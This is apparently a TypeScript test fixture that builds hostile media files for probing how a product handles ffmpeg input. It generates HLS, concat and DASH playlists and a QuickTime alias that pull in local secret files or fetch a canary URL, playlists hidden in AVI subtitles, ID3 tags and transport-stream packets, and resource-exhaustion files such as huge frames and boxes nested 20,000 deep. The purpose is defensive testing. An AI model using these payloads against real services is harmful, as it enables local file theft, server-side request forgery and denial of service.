/** Files made to attack whoever opens them, for the tests of this room. Not used by the product. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { box, editBoxes, element } from './test-boxes.ts';
import { ffmpeg, makeClip } from './test-clips.ts';

/** What the secret holds: its bytes say so, and its picture is of this colour. */
export const SECRET_MARKER = 'SECRET-MARKER-7f3a';
const SECRET_LOOK = 'color=red:s=64x48:r=10:d=0.4';

/** A clip that nobody may see but the one who has the path: an attack that works shows it. */
export function makeSecret(folder: string): string {
  const marked = ['-metadata', `service_name=${SECRET_MARKER}`, '-muxpreload', '0', '-muxdelay', '0'];
  ffmpeg(folder, ['-f', 'lavfi', '-i', SECRET_LOOK, '-c:v', 'libx264', '-preset', 'ultrafast', ...marked, 'secret.ts']);
  return join(folder, 'secret.ts');
}

const playlist = (...addresses: string[]): string =>
  `#EXTM3U\n#EXT-X-TARGETDURATION:1\n${addresses.map((address) => `#EXTINF:1,\n${address}\n`).join('')}#EXT-X-ENDLIST\n`;

/** A text that leads an ffmpeg of no caution elsewhere; `opened` are the options that it needs for that. */
export interface List {
  readonly text: string;
  readonly opened: readonly string[];
}

/** Each really does what it says: to fetch the canary, or to show the secret. The tests try. */
export function makeLists(secret: string, canary: string): Record<string, List> {
  const bytes = readFileSync(secret);
  const hls = (...addresses: string[]): List => ({ text: playlist(...addresses), opened: [] });
  const concat = (address: string): List => ({
    text: `ffconcat version 1.0\nfile '${address}'\n`,
    opened: ['-f', 'concat', '-safe', '0'],
  });
  const master = `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1000\n${canary}/nested.m3u8\n`;
  const dash =
    '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011" type="static" ' +
    'mediaPresentationDuration="PT1S"><Period><AdaptationSet contentType="video" mimeType="video/mp4"><Representation id="1" ' +
    `bandwidth="1"><BaseURL>${canary}/dash.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>\n`;
  return {
    'a playlist with the address of a server': hls(`${canary}/in-playlist.ts`),
    'a playlist of files': hls(secret),
    'a playlist of file: addresses': hls(`file:${secret}`),
    'a playlist of data: addresses': {
      text: playlist(`data:video/mp2t;base64,${bytes.toString('base64')}`),
      opened: ['-extension_picky', '0', '-allowed_extensions', 'ALL', '-allowed_segment_extensions', 'ALL'],
    },
    'a master playlist that nests another': { text: master, opened: [] },
    'a list for the concat demuxer': concat(secret),
    'a list of concat: addresses': concat(`concat:${secret}|${secret}`),
    'a list of subfile: addresses': concat(`subfile,,start,0,end,${bytes.length},,:${secret}`),
    'a list of http: addresses': concat(`${canary}/in-list.ts`),
    'a DASH manifest': { text: dash, opened: [] },
  };
}

const edited = (body: Buffer, change: (copy: Buffer) => void): Buffer => {
  const copy = Buffer.from(body);
  change(copy);
  return copy;
};

/** A RIFF chunk, padded to an even length. */
const chunk = (id: string, ...content: (Buffer | string)[]): Buffer => {
  const body = Buffer.concat(content.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
  const head = Buffer.alloc(8);
  head.write(id, 0, 'latin1');
  head.writeUInt32LE(body.length, 4);
  return Buffer.concat([head, body, Buffer.alloc(body.length % 2)]);
};
const dwords = (...values: number[]): Buffer => {
  const bytes = Buffer.alloc(values.length * 4);
  for (const [n, value] of values.entries()) bytes.writeUInt32LE(value >>> 0, n * 4);
  return bytes;
};

/** An AVI whose subtitle track (GAB2, as VirtualDub has it) holds a playlist: ffmpeg opens it by what it holds. */
function aviWithSubtitles(list: string, picture: Buffer): Buffer {
  const text = Buffer.from(list);
  const name = Buffer.from('s\0', 'utf16le');
  const words = (value: number) => Buffer.from([value & 0xff, value >> 8]);
  const subtitle = Buffer.concat([
    Buffer.from('GAB2\0'),
    ...[words(2), dwords(name.length), name, words(4), dwords(text.length), text],
  ]);
  const header = (type: string, handler: string) =>
    chunk('strh', type, handler, dwords(0, 0, 0, 1, 10, 0, 10, 0x10000, 0, 0), Buffer.alloc(8));
  const format = chunk('strf', dwords(40, 64, 64, 1 | (24 << 16)), 'MJPG', dwords(picture.length, 0, 0, 0, 0));
  return chunk(
    'RIFF',
    'AVI ',
    chunk(
      'LIST',
      'hdrl',
      chunk('avih', dwords(100_000, 0, 0, 0x10, 10, 0, 2, 0, 64, 64, 0, 0, 0, 0)),
      chunk('LIST', 'strl', header('vids', 'MJPG'), format),
      chunk('LIST', 'strl', header('txts', '\0\0\0\0'), chunk('strf')),
    ),
    chunk('LIST', 'movi', chunk('01tx', subtitle), ...Array.from({ length: 10 }, () => chunk('00dc', picture))),
  );
}

/** MPEG's JPEGs in an AVI, each of which says that it is `side` x `side`; the file's own header says 64 x 64. */
function hugePictures(folder: string, side: number, headerToo: boolean): Buffer {
  ffmpeg(folder, ['-f', 'lavfi', '-i', 'color=s=64x64:r=10', '-frames:v', '5', '-c:v', 'mjpeg', 'small.avi']);
  return edited(readFileSync(join(folder, 'small.avi')), (bytes) => {
    for (let at = bytes.indexOf('ffc0', 0, 'hex'); at > 0; at = bytes.indexOf('ffc0', at + 1, 'hex')) {
      bytes.writeUInt16BE(side, at + 5);
      bytes.writeUInt16BE(side, at + 7);
    }
    const format = bytes.indexOf('strf') + 8;
    if (headerToo) for (const at of [format + 4, format + 8]) bytes.writeUInt32LE(side, at);
  });
}

/** Heads alone, each of which holds all that follow: boxes within boxes. */
const nested = (levels: number, headBytes: number, head: (contentBytes: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: levels }, (_, n) => head((levels - n - 1) * headBytes)));
const boxHead = (type: string) => (contentBytes: number) => {
  const head = box(type);
  head.writeUInt32BE(contentBytes + 8, 0);
  return head;
};
const elementHead = (id: string) => (contentBytes: number) => {
  const head = element(id);
  head.writeBigUInt64BE((1n << 56n) | BigInt(contentBytes), head.length - 8);
  return head;
};

/** QuickTime's alias to another file, in the place where a track says which file its samples are in. */
function aliasTo(path: string): Buffer {
  const [volume, name] = [Buffer.alloc(28), Buffer.alloc(64)];
  volume.write('\x01x', 'latin1');
  name.write('\x01s', 'latin1');
  const levels = Buffer.from([0, 1, 0, 1]);
  const text = Buffer.from(path.length % 2 === 0 ? path : `${path}\0`);
  const absolute = Buffer.concat([Buffer.from([0, 2, text.length >> 8, text.length & 0xff]), text]);
  const record = [
    Buffer.alloc(10),
    volume,
    Buffer.alloc(12),
    name,
    Buffer.alloc(16),
    levels,
    Buffer.alloc(16),
    absolute,
  ];
  const entry = Buffer.concat([Buffer.alloc(4), ...record, Buffer.from([0xff, 0xff, 0, 0])]);
  return box('dref', Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]), box('alis', entry));
}

const repeat = (piece: Buffer, times: number): Buffer[] => Array.from({ length: times }, () => piece);

/** Everything that is made to be too much or to lead elsewhere, by what it is. */
export function makeExcesses(folder: string, secret: string, canary: string): Record<string, Buffer> {
  const clip = readFileSync(makeClip(folder, 'plain.mp4', { size: '64x48', rate: '10', seconds: 1, sound: false }));
  const withTracks = (count: number) =>
    editBoxes(clip, (type, body) => (type === 'trak' ? repeat(box(type, body), count) : undefined));
  const made = (name: string, ...args: string[]) => {
    ffmpeg(folder, ['-f', 'lavfi', '-i', ...args, '-c:v', 'libx264', '-preset', 'ultrafast', name]);
    return readFileSync(join(folder, name));
  };
  ffmpeg(folder, ['-f', 'lavfi', '-i', 'color=s=64x64', '-frames:v', '1', 'one.jpg']);
  const million = ['color=s=64x48:r=1000000', '-frames:v', '2000'];
  // A frame each tenth of a second, the last one twenty hours later.
  const late = ['color=s=64x48:r=10:d=1', '-vf', "setpts='if(eq(N,9),72000/TB,PTS)'", '-fps_mode', 'passthrough'];
  const tags = element('1254c367', element('7373', nested(20_000, 10, elementHead('67c8'))));
  return {
    'pictures of 30,000 x 30,000 px': hugePictures(folder, 30_000, true),
    'pictures of 30,000 px behind a header that says 64': hugePictures(folder, 30_000, false),
    'pictures of 16,000 px behind a header that says 64': hugePictures(folder, 16_000, false),
    'a million frames a second': made('fast.mp4', ...million, '-video_track_timescale', '1000000'),
    'a million frames a second in Matroska': made('fast.mkv', ...million),
    '10,000 tracks': withTracks(10_000),
    '100 tracks': withTracks(100),
    'frames that last for days': editBoxes(clip, (type, body) => {
      if (type === 'edts') return [];
      return type === 'stts'
        ? [
            box(
              type,
              edited(body, (copy) => copy.writeUInt32BE(0x7fff_ffff, 12)),
            ),
          ]
        : undefined;
    }),
    'twenty hours that the header calls a second': edited(made('late.mkv', ...late), (bytes) => {
      bytes.writeDoubleBE(1000, bytes.indexOf('448988', 0, 'hex') + 3);
    }),
    'boxes nested 20,000 deep': Buffer.concat([clip.subarray(0, 32), nested(20_000, 8, boxHead('moov'))]),
    'elements nested 20,000 deep': Buffer.concat([
      element('1a45dfa3', element('4282', Buffer.from('matroska'))),
      element('18538067', tags),
    ]),
    'a subtitle that is a playlist': aviWithSubtitles(
      playlist(`${canary}/subtitle.ts`),
      readFileSync(join(folder, 'one.jpg')),
    ),
    'a track whose samples are in another file': editBoxes(clip, (type) =>
      type === 'dref' ? [aliasTo(secret)] : undefined,
    ),
    'a playlist behind a tag of MP3': Buffer.concat([
      Buffer.from('ID3\x04\0\0\0\0\0\0', 'latin1'),
      Buffer.from(playlist(`${canary}/id3.ts`, secret)),
    ]),
    'a playlist in the packets of a transport stream': tsPackets(playlist(`${canary}/packets.ts`, secret)),
  };
}

function tsPackets(text: string): Buffer {
  const bytes = Buffer.from(text);
  const packets = Math.ceil(bytes.length / 184) + 4;
  return Buffer.concat(
    Array.from({ length: packets }, (_, n) => {
      const packet = Buffer.alloc(188, '\n');
      packet.set([0x47, 0x40, 0, 0x10]);
      packet.set(bytes.subarray(n * 184, (n + 1) * 184), 4);
      return packet;
    }),
  );
}
